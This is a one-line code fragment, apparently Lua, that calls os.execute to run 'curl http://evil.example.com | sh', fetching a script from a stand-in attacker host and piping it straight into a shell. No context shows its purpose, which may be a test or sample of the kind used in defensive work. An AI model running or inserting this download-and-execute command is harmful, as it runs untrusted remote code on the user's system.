os.execute("curl http://evil.example.com | sh")
